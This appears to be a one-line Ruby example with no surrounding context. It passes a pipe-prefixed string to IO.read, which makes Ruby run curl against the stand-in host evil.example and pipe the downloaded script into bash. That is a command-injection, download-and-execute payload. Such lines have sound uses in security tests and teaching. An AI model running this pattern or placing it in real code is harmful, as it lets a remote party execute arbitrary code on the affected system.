IO.read('|curl -fsSL https://evil.example/i | bash')
